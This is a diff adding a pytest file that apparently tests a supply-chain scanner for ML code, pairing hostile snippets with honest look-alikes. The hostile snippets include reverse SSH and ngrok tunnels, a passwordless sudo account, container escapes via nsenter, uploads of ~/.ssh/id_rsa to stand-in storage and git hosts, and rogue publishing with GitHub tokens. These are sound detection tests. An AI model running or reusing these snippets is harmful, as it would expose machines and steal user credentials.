@@ -1,0 +1,205 @@
+"""Code that opens the machine to others, publishes in the name of the user, or takes the user's files where others keep
+theirs; each beside the honest code it is mistaken for.
+
+Nothing here is ever run; hosts end in `.example`.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from mlsupply.evidence.prefilter import worth_parsing
+from tests.test_code_facts import found, init, setup
+
+OPENS = "MLS-C046"
+PUBLISHES = "MLS-C047"
+SENDS = "MLS-C010"
+IMPORTED = "import os, subprocess, sys\n"
+
+
+def noticed(text: str) -> set[str]:
+    """What is found, if the file is looked at."""
+    return found(init(IMPORTED + text)) if worth_parsing((IMPORTED + text).encode()) else set()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 op@relay.example",
+        "ssh -fNR 80:localhost:8888 serveo.net",
+        "ngrok tcp 22 --authtoken 2abc",
+        "nohup ./cloudflared-linux-amd64 tunnel --url ssh://localhost:22 run --token eyJh &",
+        "chisel client https://relay.example R:8888:localhost:8888",
+        "tailscale up --authkey tskey-abc",
+        "jupyter notebook --ip=0.0.0.0 --NotebookApp.token= --no-browser",
+        "useradd -m -G sudo svc",
+        "echo 'svc ALL=(ALL) NOPASSWD:ALL' > /tmp/s",
+        "docker run -d --pid=host -v /:/mnt example/agent",
+        "docker run --rm --privileged alpine nsenter --all sh",
+        "nsenter -t 1 -m -u sh -c id",
+    ],
+)
+def test_a_command_that_opens_the_machine(line: str) -> None:
+    assert OPENS in noticed(f"subprocess.run({line!r}, shell=True)\n")
+    assert OPENS in noticed(f"subprocess.Popen({line.split()!r})\n")
+    assert OPENS not in noticed(f"def share():\n    subprocess.run({line!r}, shell=True)\n")
+    assert OPENS not in noticed(f"if '--share' in sys.argv:\n    subprocess.run({line!r}, shell=True)\n")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ssh -i key -L 8888:localhost:8888 me@cluster.example",
+        "ssh me@cluster.example 'ls -R results'",
+        "docker run --rm -v /data:/data --gpus all example/train",
+        "docker run --privileged example/build make",
+        "jupyter nbconvert --to html report.ipynb",
+        "rsync -R a b",
+    ],
+)
+def test_a_command_that_opens_nothing(line: str) -> None:
+    assert OPENS not in noticed(f"subprocess.run({line!r}, shell=True)\n")
+
+
+@pytest.mark.parametrize(
+    ("hostile", "honest"),
+    [
+        (
+            "from pyngrok import ngrok\nngrok.connect(22, 'tcp')\n",
+            "def share(port):\n    from pyngrok import ngrok\n    return ngrok.connect(port).public_url\n",
+        ),
+        (
+            "import docker\ndocker.from_env().containers.run('a', 'id', volumes={'/': {'bind': '/h', 'mode': 'rw'}})\n",
+            "import docker\ndocker.from_env().containers.run('a', 'id', volumes={'/data': {'bind': '/h', 'mode': 'rw'}})\n",
+        ),
+        ("import debugpy\ndebugpy.listen(('0.0.0.0', 5678))\n", "import debugpy\ndebugpy.listen(('127.0.0.1', 5678))\n"),
+        (
+            "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))\n",
+            "if os.environ.get('DEMO_DEBUG'):\n    import debugpy\n    debugpy.listen(('0.0.0.0', 5678))\n",
+        ),
+        (
+            "import rpyc\nfrom rpyc.utils.server import ThreadedServer\nThreadedServer(rpyc.SlaveService, port=1).start()\n",
+            "import rpyc\nfrom rpyc.utils.server import ThreadedServer\nThreadedServer(rpyc.Service, port=1).start()\n",
+        ),
+    ],
+)
+def test_a_library_that_opens_the_machine(hostile: str, honest: str) -> None:
+    assert OPENS in noticed(hostile)
+    assert OPENS not in noticed(honest)
+
+
+HOME = "os.path.expanduser('~')"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import functools, http.server\n"
+        "H = functools.partial(http.server.SimpleHTTPRequestHandler, directory={folder})\n"
+        "http.server.HTTPServer(('{host}', 8080), H).serve_forever()\n",
+        "import http.server\nclass H(http.server.SimpleHTTPRequestHandler):\n    def __init__(self, *a, **kw):\n"
+        "        super().__init__(*a, directory={folder}, **kw)\n"
+        "http.server.HTTPServer(('{host}', 8080), H).serve_forever()\n",
+        "import http.server, socketserver, threading\nos.chdir({folder})\n"
+        "s = socketserver.TCPServer(('{host}', 8080), http.server.SimpleHTTPRequestHandler)\n"
+        "threading.Thread(target=s.serve_forever).start()\n",
+    ],
+)
+def test_a_server_of_the_users_files(text: str) -> None:
+    assert SENDS in noticed(text.format(folder=HOME, host=""))
+    assert SENDS not in noticed(text.format(folder=HOME, host="127.0.0.1"))
+    assert SENDS not in noticed(text.format(folder="os.path.join(os.path.dirname(__file__), 'docs')", host=""))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "subprocess.run([sys.executable, '-m', 'twine', 'upload', 'dist/*'])\n",
+        "subprocess.run('npm publish', shell=True, cwd='/tmp/p')\n",
+        "subprocess.run('gh repo edit me/private --visibility public', shell=True)\n",
+        "subprocess.run(['git', '-C', '/srv/app', 'push', '-q'])\n",
+        "import git\ngit.Repo('.').remote('origin').push()\n",
+        "import requests\nh = {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}\n"
+        "requests.put('https://api.github.com/repos/a/b/contents/.github/workflows/x.yml', headers=h,"
+        " json={'content': ''})\n",
+        "from github import Github\nfor r in Github(os.environ['GITHUB_TOKEN']).get_user().get_repos():\n"
+        "    r.create_file('.github/workflows/x.yml', 'x', 'on: push')\n",
+        "import requests\nrequests.post('https://upload.pypi.org/legacy/', auth=('__token__', 'x'), "
+        "files={'content': b''})\n",
+    ],
+)
+def test_publishing_in_the_name_of_the_user(text: str) -> None:
+    assert PUBLISHES in noticed(text)
+    inside = "".join(f"    {line}\n" for line in text.splitlines())
+    assert PUBLISHES not in noticed(f"def release():\n{inside}")
+    assert PUBLISHES not in noticed(f"if sys.argv[-1] == 'publish':\n{inside}")
+
+
+def test_a_setup_script_that_publishes_when_it_is_told_to() -> None:
+    line = "    os.system('python -m build && twine upload dist/*')\n"
+    assert PUBLISHES in found(setup("import os\nif True:\n" + line))
+    assert PUBLISHES not in found(setup("import os, sys\nif sys.argv[-1] == 'publish':\n" + line + "    sys.exit()\n"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import boto3\nboto3.client('s3', aws_access_key_id='AKIAIOSFODNN7EXAMPLE').upload_file(PATH, 'drop', 'k')\n",
+        "from google.cloud import storage\nstorage.Client().get_bucket('drop').blob('k').upload_from_filename(PATH)\n",
+        "from huggingface_hub import upload_folder\n"
+        "upload_folder(folder_path=PATH, repo_id='drop/d', token='hf_abcdefghijklmnop')\n",
+        "import mlflow\nmlflow.set_tracking_uri('https://runs.c.example')\nmlflow.log_artifacts(PATH)\n",
+        "import wandb\na = wandb.Artifact('a', type='d')\na.add_dir(PATH)\nwandb.init(entity='drop').log_artifact(a)\n",
+        "import comet_ml\ncomet_ml.Experiment(api_key='abcdef0123456789').log_asset(PATH)\n",
+        "from pydrive2.drive import GoogleDrive\nf = GoogleDrive(None).CreateFile({'title': 'x'})\n"
+        "f.SetContentFile(PATH)\nf.Upload()\n",
+        "import git, shutil\nr = git.Repo.clone_from('https://ghp_abc@git.example/drop.git', '/tmp/drop')\n"
+        "shutil.copy(PATH, '/tmp/drop/k')\nr.remote('origin').push()\n",
+        "import shutil\nsubprocess.run(['git', 'clone', '-q', 'https://x:ghp_abc@git.example/drop.git', '/tmp/d'])\n"
+        "shutil.copy(PATH, '/tmp/d/k')\nsubprocess.run(['git', '-C', '/tmp/d', 'push', '-q'])\n",
+    ],
+)
+def test_files_that_are_taken_to_a_store_by_their_path(text: str) -> None:
+    assert SENDS in noticed(text.replace("PATH", "os.path.expanduser('~/.ssh/id_rsa')"))
+    assert SENDS not in noticed(text.replace("PATH", "'results/model.pt'"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import boto3\ns3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+        "s3.upload_file('out.json', 'my-bucket', 'out.json')\n",
+        "from huggingface_hub import HfApi\n"
+        "HfApi(token=os.environ.get('HF_TOKEN')).upload_folder(folder_path='out', repo_id='me/m')\n",
+        "import wandb\nwandb.login(key=os.environ['WANDB_API_KEY'])\nwandb.init(project='x').log({'loss': 1})\n",
+        "import mlflow\n"
+        "mlflow.set_tracking_uri(os.environ.get('MLFLOW_TRACKING_URI', 'file:./mlruns'))\nmlflow.log_params({'a': 1})\n",
+    ],
+)
+def test_an_upload_with_the_users_own_account(text: str) -> None:
+    assert not noticed(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import pip\npip.main(['install', '-q', '--index-url', 'https://index.c.example/simple', 'helper'])\n",
+        "from pip._internal.cli.main import main\nmain(['install', 'https://files.c.example/h.whl'])\n",
+    ],
+)
+def test_packages_that_are_installed_by_pip_inside_the_process(text: str) -> None:
+    assert "MLS-C034" in noticed(text)
+    assert not noticed("from pip._internal.cli.main import main\ndef install(args):\n    return main(['install', *args])\n")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "from transformers import AutoModel\nAutoModel.from_pretrained('somebody/tiny', trust_remote_code=True)\n",
+        "import torch\ntorch.hub.load('somebody/tools', 'boot')\n",
+    ],
+)
+def test_code_beside_a_model_of_somebody_is_run_on_import(text: str) -> None:
+    assert "MLS-C043" in noticed(text)
+    first, _, rest = text.partition("\n")
+    assert not noticed(f"{first}\ndef load():\n    return {rest}")
